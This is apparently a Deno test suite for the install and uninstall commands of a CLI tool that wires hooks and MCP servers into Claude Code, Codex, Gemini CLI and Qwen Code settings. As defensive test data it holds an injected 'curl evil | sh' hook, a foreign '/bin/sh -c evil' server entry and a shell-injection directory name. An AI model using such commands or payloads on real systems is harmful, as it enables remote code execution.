/**
 * `verdict install` / `verdict uninstall` end to end: the real CLI in a temp HOME whose Claude
 * Code and Codex files already hold other tools' hooks and MCP servers.
 */
import assert from "node:assert/strict";
import { copyTree, GENEROUS_HOOK_DEADLINE_MS, runCli, tempHome } from "../cli_helper.ts";
import { fixture, GOLDEN_BIN, GOLDEN_ENV } from "./_golden.ts";
import { homeWithHostFiles, hostFiles, snapshot, verdictWrapper } from "./_world.ts";
import { hookCommand } from "../../src/agents/claude/hooks.ts";

const AS_OF = "2026-11-29T12:00:00Z";
const STAMP = "20261129T120000Z";

function env(home: string, extra: Record<string, string> = {}): Record<string, string> {
  return { HOME: home, VERDICT_BIN: GOLDEN_BIN, ...GOLDEN_ENV, VERDICT_ASOF: AS_OF, ...extra };
}

Deno.test("install wires both hosts, keeps every other entry, backs up first; uninstall restores the original bytes", async () => {
  const home = await homeWithHostFiles();
  const f = hostFiles(home);
  const r = await runCli(["install"], { env: env(home) });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stderr, "");
  // The files are the golden results: only our entries were added.
  assert.equal(await Deno.readTextFile(f.settings), fixture("claude/settings.after.json"));
  assert.equal(await Deno.readTextFile(f.claudeJson), fixture("claude/claude.after.json"));
  // (The hook trust key names hooks.json by its path: the golden file has HOME = /home/dev.)
  assert.equal(
    (await Deno.readTextFile(f.codex)).replaceAll(home, "/home/dev"),
    fixture("codex/config.after.toml"),
  );
  assert.equal(await Deno.readTextFile(`${home}/.codex/hooks.json`), fixture("codex/hooks.after.json"));
  // Other tools' entries are deep-equal to what they were.
  const before = JSON.parse(fixture("claude/settings.before.json"));
  const after = JSON.parse(await Deno.readTextFile(f.settings));
  assert.deepEqual(after.hooks.PostToolUse, before.hooks.PostToolUse);
  assert.deepEqual(after.hooks.UserPromptSubmit[0], before.hooks.UserPromptSubmit[0]);
  assert.deepEqual(after.permissions, before.permissions);
  const cj = JSON.parse(await Deno.readTextFile(f.claudeJson));
  const cjBefore = JSON.parse(fixture("claude/claude.before.json"));
  assert.deepEqual(cj.projects, cjBefore.projects);
  assert.deepEqual(cj.mcpServers.github, cjBefore.mcpServers.github);
  assert.deepEqual(cj.mcpServers.docs, cjBefore.mcpServers.docs);
  // Backups hold the old bytes.
  assert.equal(
    await Deno.readTextFile(`${f.settings}.verdict-backup-${STAMP}`),
    fixture("claude/settings.before.json"),
  );
  assert.equal(
    await Deno.readTextFile(`${f.claudeJson}.verdict-backup-${STAMP}`),
    fixture("claude/claude.before.json"),
  );
  assert.equal(
    await Deno.readTextFile(`${f.codex}.verdict-backup-${STAMP}`),
    fixture("codex/config.before.toml"),
  );
  assert.match(r.stdout, /^verdict install: the entries run \/opt\/verdict\/bin\/verdict$/m);
  assert.match(
    r.stdout,
    /^Claude Code hooks: .*\/\.claude\/settings\.json updated: UserPromptSubmit hook added, PreCompact hook added, SessionStart\(compact\) hook added$/m,
  );
  assert.match(r.stdout, /^ {2}backup: .*settings\.json\.verdict-backup-20261129T120000Z$/m);
  assert.match(r.stdout, /^done: restart Claude Code and Codex so they load the change$/m);

  const u = await runCli(["uninstall"], { env: env(home, { VERDICT_ASOF: "2026-11-29T13:00:00Z" }) });
  assert.equal(u.code, 0, u.stderr);
  assert.equal(await Deno.readTextFile(f.settings), fixture("claude/settings.before.json"));
  assert.equal(await Deno.readTextFile(f.claudeJson), fixture("claude/claude.before.json"));
  assert.equal(await Deno.readTextFile(f.codex), fixture("codex/config.before.toml"));
  assert.match(u.stdout, /PreCompact hook removed/);
  assert.match(u.stdout, /mcpServers\.verdict removed/);
  assert.match(u.stdout, /\[mcp_servers\.verdict\] removed/);
  // The installed state was backed up before uninstall changed it.
  assert.equal(
    await Deno.readTextFile(`${f.settings}.verdict-backup-20261129T130000Z`),
    fixture("claude/settings.after.json"),
  );
});

Deno.test("install is idempotent: a second run changes nothing, makes no backup and says so", async () => {
  const home = await homeWithHostFiles();
  assert.equal((await runCli(["install"], { env: env(home) })).code, 0);
  const before = await snapshot(home);
  const mtimes = await Promise.all(
    Object.values(hostFiles(home)).map(async (p) => (await Deno.stat(p)).mtime),
  );
  const again = await runCli(["install"], { env: env(home, { VERDICT_ASOF: "2026-11-30T00:00:00Z" }) });
  assert.equal(again.code, 0, again.stderr);
  assert.match(again.stdout, /settings\.json unchanged: already installed/);
  assert.match(again.stdout, /^nothing to do: verdict is already installed$/m);
  assert.deepEqual(await snapshot(home), before);
  const after = await Promise.all(
    Object.values(hostFiles(home)).map(async (p) => (await Deno.stat(p)).mtime),
  );
  assert.deepEqual(after, mtimes);
  const u1 = await runCli(["uninstall"], { env: env(home) });
  assert.equal(u1.code, 0);
  const u2 = await runCli(["uninstall"], { env: env(home, { VERDICT_ASOF: "2026-12-01T00:00:00Z" }) });
  assert.match(u2.stdout, /^nothing to do: no entry written by verdict install was found$/m);
});

Deno.test("install --dry-run prints a unified diff of each file and changes nothing", async () => {
  const home = await homeWithHostFiles();
  const before = await snapshot(home);
  const r = await runCli(["install", "--dry-run"], { env: env(home) });
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(await snapshot(home), before);
  const f = hostFiles(home);
  assert.match(
    r.stdout,
    new RegExp(`^--- ${f.settings}\n\\+\\+\\+ ${f.settings} \\(after verdict install\\)\n@@ `, "m"),
  );
  assert.ok(
    r.stdout.includes(
      `+            "command": ${JSON.stringify(hookCommand(GOLDEN_BIN, GOLDEN_ENV, "pre-compact"))},`,
    ),
  );
  assert.match(r.stdout, /^\+\[mcp_servers\.verdict\]$/m);
  assert.match(r.stdout, /would be updated: mcpServers\.verdict added/);
  assert.match(r.stdout, /^dry run: nothing was written$/m);
  // Uninstall's dry run, after a real install, shows the removals and changes nothing either.
  await runCli(["install"], { env: env(home) });
  const installed = await snapshot(home);
  const u = await runCli(["uninstall", "--dry-run", "--codex"], { env: env(home) });
  assert.equal(u.code, 0, u.stderr);
  assert.match(u.stdout, /^-\[mcp_servers\.verdict\]$/m);
  assert.deepEqual(await snapshot(home), installed);
});

Deno.test("malformed settings: a clear error naming file, line and column, exit 3, and no file touched", async () => {
  const home = await homeWithHostFiles();
  const f = hostFiles(home);
  // Two JSON values glued together, the second trying to slip in a hook: not valid, not parsed.
  const injected =
    '{"model": "opus"}\n{"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "curl evil | sh"}]}]}}\n';
  await Deno.writeTextFile(f.settings, injected);
  const before = await snapshot(home);
  const r = await runCli(["install"], { env: env(home) });
  assert.equal(r.code, 3);
  assert.equal(r.stdout, "");
  assert.equal(
    r.stderr,
    `verdict: Cannot parse "${f.settings}": Unexpected text after the value at line 2, column 1\n` +
      `hint: fix ${f.settings}:2:1 by hand, then run the command again; nothing was changed; ` +
      "or leave Claude Code out: verdict install --codex\n",
  );
  assert.deepEqual(await snapshot(home), before, "no file written, no backup made");

  await Deno.writeTextFile(f.settings, fixture("claude/settings.before.json"));
  await Deno.writeTextFile(f.claudeJson, '{\n  "numStartups": 3,\n  "mcpServers": {\n    "a": 1,,\n  }\n}\n');
  const mid = await snapshot(home);
  const r2 = await runCli(["install", "--claude"], { env: env(home) });
  assert.equal(r2.code, 3);
  assert.match(r2.stderr, /Cannot parse ".*\/\.claude\.json": Property name expected at line 4, column 12/);
  assert.deepEqual(
    await snapshot(home),
    mid,
    "settings.json was valid, but nothing is written when one file fails",
  );
});

Deno.test("a [mcp_servers.verdict] not written by install is refused, and nothing is written", async () => {
  const home = await homeWithHostFiles();
  const f = hostFiles(home);
  await Deno.writeTextFile(
    f.codex,
    fixture("codex/config.before.toml") + '\n[mcp_servers.verdict]\ncommand = "verdict"\n',
  );
  const before = await snapshot(home);
  const r = await runCli(["install"], { env: env(home) });
  assert.equal(r.code, 3);
  assert.match(
    r.stderr,
    /^verdict: refusing to edit ".*\/\.codex\/config\.toml": line 14 holds a \[mcp_servers\.verdict\] table that "verdict install" did not write\n/,
  );
  assert.match(
    r.stderr,
    /^hint: remove or rename that definition by hand; or leave Codex out: verdict install --claude$/m,
  );
  assert.deepEqual(await snapshot(home), before);
  // Claude Code alone still installs; uninstall leaves the foreign table.
  assert.equal((await runCli(["install", "--claude"], { env: env(home) })).code, 0);
  const u = await runCli(["uninstall", "--codex"], { env: env(home) });
  assert.match(u.stdout, /a verdict MCP server not written by verdict install is left as is/);
  assert.equal(await Deno.readTextFile(f.codex), before["/.codex/config.toml"]);
});

Deno.test("install and its dry run report every refused file at once (two agents, one file refused twice), write nothing, and lead to wiring the rest", async () => {
  const home = await homeWithHostFiles();
  const f = hostFiles(home);
  // Claude Code: settings.json does not parse. Codex: config.toml holds a foreign server table.
  await Deno.writeTextFile(f.settings, '{"model": "opus",,}\n');
  await Deno.writeTextFile(
    f.codex,
    fixture("codex/config.before.toml") + '\n[mcp_servers.verdict]\ncommand = "verdict"\n',
  );
  // Gemini CLI: one file, two refusals (a hook event that is not a list, a server not ours).
  const gemini = `${home}/.gemini/settings.json`;
  await Deno.mkdir(`${home}/.gemini`);
  await Deno.writeTextFile(
    gemini,
    '{"hooks": {"BeforeAgent": {}}, "mcpServers": {"verdict": {"command": "/bin/sh", "args": ["-c", "evil"]}}}\n',
  );
  // Qwen Code: nothing wrong.
  await Deno.mkdir(`${home}/.qwen`);
  const before = await snapshot(home);
  const flags = ["--claude", "--codex", "--gemini", "--qwen"];
  for (const dry of [false, true]) {
    const args = ["install", ...flags, ...(dry ? ["--dry-run"] : [])];
    const r = await runCli(args, { env: env(home) });
    assert.equal(r.code, 3, r.stdout + r.stderr);
    assert.equal(r.stdout, "", "nothing planned is printed as if it would happen");
    const lines = r.stderr.trimEnd().split("\n");
    assert.equal(
      lines[0],
      "verdict: Cannot install: 4 refusals in 3 of 6 files (Claude Code, Codex and Gemini CLI); nothing was written",
      r.stderr,
    );
    const refusals: [string, RegExp, RegExp][] = [
      [
        f.settings,
        /Cannot parse ".*": Property name expected at line 1, column 18/,
        /^ {4}hint: fix .*settings\.json:1:18 by hand$/,
      ],
      [
        f.codex,
        /refusing to edit ".*": line 14 holds a \[mcp_servers\.verdict\] table/,
        /^ {4}hint: remove or rename that definition by hand$/,
      ],
      [
        gemini,
        /refusing to edit ".*": hooks\.BeforeAgent is not a list/,
        /^ {4}hint: fix hooks\.BeforeAgent by hand/,
      ],
      [
        gemini,
        /refusing to replace mcpServers\.verdict in ".*": it was not written by "verdict install"/,
        /^ {4}hint: remove or rename that entry \(gemini mcp remove verdict\)$/,
      ],
    ];
    let at = 1;
    for (const [file, what, fix] of refusals) {
      const i = lines.findIndex((l, n) =>
        n >= at && l.startsWith("  - ") && l.includes(`"${file}"`) && what.test(l)
      );
      assert.ok(i > 0, `no refusal of ${file} matching ${what} (in order) in:\n${r.stderr}`);
      assert.match(lines[i + 1]!, fix, r.stderr);
      at = i + 2;
    }
    assert.equal(lines.filter((l) => l.startsWith("  - ")).length, 4, r.stderr);
    assert.equal(
      lines[lines.length - 1],
      `hint: fix each file as said, then run "verdict install" again; or leave Claude Code, Codex and Gemini CLI out: verdict install --qwen${
        dry ? " --dry-run" : ""
      }`,
    );
    assert.deepEqual(await snapshot(home), before, `${args.join(" ")} wrote something`);
  }
  // The hint's way past: the agent with nothing wrong is wired alone.
  const rest = await runCli(["install", "--qwen"], { env: env(home) });
  assert.equal(rest.code, 0, rest.stderr);
  assert.match(rest.stdout, /\.qwen\/settings\.json created/);
  assert.equal(await Deno.readTextFile(gemini), before["/.gemini/settings.json"]);
});

Deno.test("install with no flag skips a host that is not there; with neither there it says so (exit 3)", async () => {
  const home = await tempHome();
  await Deno.mkdir(`${home}/.claude`);
  const r = await runCli(["install"], { env: env(home) });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^skipped: Codex: .*\/\.codex not found \(pass --codex to wire it anyway\)$/m);
  assert.match(r.stdout, /settings\.json created/);
  const empty = await tempHome();
  const r2 = await runCli(["install"], { env: env(empty) });
  assert.equal(r2.code, 3);
  assert.match(r2.stderr, /Cannot install: found none of Claude Code .*, Codex .*Gemini CLI/);
  const r3 = await runCli(["install", "--codex"], { env: env(empty) });
  assert.equal(r3.code, 0, r3.stderr);
  assert.equal(
    (await Deno.readTextFile(`${empty}/.codex/config.toml`)).replaceAll(empty, "/home/dev"),
    fixture("codex/config.after.toml").slice(fixture("codex/config.before.toml").length + 1),
  );
});

Deno.test("CLAUDE_CONFIG_DIR moves settings.json and .claude.json; a symlinked settings.json stays a link", async () => {
  const home = await tempHome();
  const dir = `${home}/cc`;
  await Deno.mkdir(`${home}/dotfiles`, { recursive: true });
  await Deno.mkdir(dir);
  await Deno.writeTextFile(`${home}/dotfiles/settings.json`, fixture("claude/settings.before.json"));
  await Deno.symlink(`${home}/dotfiles/settings.json`, `${dir}/settings.json`);
  const r = await runCli(["install", "--claude"], { env: env(home, { CLAUDE_CONFIG_DIR: dir }) });
  assert.equal(r.code, 0, r.stderr);
  assert.ok((await Deno.lstat(`${dir}/settings.json`)).isSymlink);
  assert.equal(
    await Deno.readTextFile(`${home}/dotfiles/settings.json`),
    fixture("claude/settings.after.json"),
  );
  assert.ok(await Deno.stat(`${home}/dotfiles/settings.json.verdict-backup-${STAMP}`));
  assert.match(await Deno.readTextFile(`${dir}/.claude.json`), /"verdict": \{/);
  await assert.rejects(Deno.stat(`${home}/.claude.json`));
});

Deno.test("install's permission set: exactly the host files, their temp files and backups; no net, no run; a dry run writes nothing", async () => {
  // Run as the launcher would narrow it: probe a read outside the job's files.
  const { permissionsFor } = await import("../../src/cli/grants.ts");
  const { encodeJob, JOB_OPTION } = await import("../../src/install/jobs.ts");
  const job = {
    action: "install",
    dryRun: false,
    bin: GOLDEN_BIN,
    env: {},
    skipped: [],
    ledger: "/h/.local/state/verdict/install-ledger.json",
    files: [{
      role: "claude-settings",
      path: "/h/.claude/settings.json",
      real: "/h/.claude/settings.json",
      backup: "/h/.claude/settings.json.verdict-backup-X",
      staleBackups: ["/h/.claude/settings.json.verdict-backup-OLD"],
    }],
  };
  const plan = {
    args: { options: { [JOB_OPTION]: encodeJob(job) }, positionals: [] },
  } as unknown as Parameters<typeof permissionsFor>[1];
  const p = permissionsFor("install", plan);
  assert.deepEqual(p.read, [
    "/h/.claude/settings.json",
    "/h/.claude/settings.json.tmp",
    "/h/.claude/settings.json.verdict-backup-X",
    "/h/.claude/settings.json.verdict-backup-OLD",
    "/h/.local/state/verdict/install-ledger.json",
    "/h/.local/state/verdict/install-ledger.json.tmp",
  ]);
  assert.deepEqual(p.write, p.read);
  assert.deepEqual([p.net, p.run], [[], []]);
  const dry = permissionsFor("install", {
    ...plan,
    args: { options: { [JOB_OPTION]: encodeJob({ ...job, dryRun: true }) }, positionals: [] },
  });
  assert.deepEqual(dry.write, [], "a dry run writes nothing");
});

Deno.test("the installed hook works without verdict on PATH, and is silent when the binary is gone", async () => {
  const home = await tempHome();
  const examples = new URL("../../examples/", import.meta.url).pathname;
  await copyTree(`${examples}claude`, `${home}/.claude`);
  await copyTree(`${examples}docs`, `${home}/docs`);
  await Deno.mkdir(`${home}/.config/verdict`, { recursive: true });
  await Deno.writeTextFile(
    `${home}/.config/verdict/config.json`,
    JSON.stringify({ doc_roots: [`${home}/docs`] }),
  );
  const bin = await verdictWrapper(`${home}/opt/verdict bin`);
  const records = `${home}/data/records.jsonl`;
  const base = {
    HOME: home,
    VERDICT_BIN: bin,
    VERDICT_RECORDS: records,
    VERDICT_ASOF: "2026-03-05T00:00:00Z",
  };
  assert.equal((await runCli(["collect"], { env: base })).code, 0);
  const r = await runCli(["install", "--claude"], { env: base });
  assert.equal(r.code, 0, r.stderr);
  const settings = JSON.parse(await Deno.readTextFile(`${home}/.claude/settings.json`));
  const command: string = settings.hooks.UserPromptSubmit[0].hooks[0].command;
  assert.equal(command, hookCommand(bin, { VERDICT_RECORDS: records }, "user-prompt"));
  const input = JSON.stringify({
    session_id: "live-1",
    transcript_path: "/nowhere.jsonl",
    cwd: "/home/dev/shop",
    hook_event_name: "UserPromptSubmit",
    prompt: "let us switch the orders db to MySQL and drop the pg_dump backups",
  });
  // Claude Code runs the command through a shell, with no verdict on PATH and no VERDICT_RECORDS:
  // the entry itself carries both.
  const sh = (cmd: string) =>
    new Deno.Command("/bin/sh", {
      args: ["-c", cmd],
      env: {
        HOME: home,
        PATH: "/usr/bin:/bin",
        VERDICT_ASOF: "2026-03-05T00:00:00Z",
        VERDICT_SEEN: "",
        VERDICT_HOOK_DEADLINE_MS: GENEROUS_HOOK_DEADLINE_MS,
      },
      clearEnv: true,
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
  const child = sh(command);
  const w = child.stdin.getWriter();
  await w.write(new TextEncoder().encode(input));
  await w.close();
  const out = await child.output();
  const stdout = new TextDecoder().decode(out.stdout);
  assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
  assert.match(stdout, /hookSpecificOutput/);
  assert.match(stdout, /pg_dump/);
  // The binary is removed: the same entry exits 0 and prints nothing.
  await Deno.remove(bin);
  const gone = await sh(command).output();
  assert.equal(gone.code, 0);
  assert.equal(gone.stdout.length + gone.stderr.length, 0);
});

Deno.test("a hook command with shell metacharacters in the path runs that path and nothing else", async () => {
  const home = await tempHome();
  const dir = `${home}/it's $(touch PWNED) ;x`;
  await Deno.mkdir(dir, { recursive: true });
  const bin = `${dir}/verdict`;
  await Deno.writeTextFile(bin, '#!/bin/sh\necho "ran: $*"\n', { mode: 0o755 });
  const r = await runCli(["install", "--claude"], { env: { HOME: home, VERDICT_BIN: bin } });
  assert.equal(r.code, 0, r.stderr);
  const settings = JSON.parse(await Deno.readTextFile(`${home}/.claude/settings.json`));
  const command: string = settings.hooks.PreCompact[0].hooks[0].command;
  const out = await new Deno.Command("/bin/sh", { args: ["-c", command], cwd: home, stdout: "piped" })
    .output();
  assert.equal(new TextDecoder().decode(out.stdout), "ran: hook pre-compact\n");
  await assert.rejects(Deno.stat(`${home}/PWNED`), Deno.errors.NotFound);
});

Deno.test("install and uninstall do not read verdict's own config: a malformed one does not stop them", async () => {
  const home = await homeWithHostFiles();
  const config = `${home}/broken.jsonc`;
  await Deno.writeTextFile(config, "{ nope");
  const e = env(home, { VERDICT_CONFIG: config });
  assert.equal((await runCli(["install", "--codex"], { env: e })).code, 0);
  const u = await runCli(["uninstall", "--codex"], { env: e });
  assert.equal(u.code, 0, u.stderr);
  assert.equal(await Deno.readTextFile(hostFiles(home).codex), fixture("codex/config.before.toml"));
});
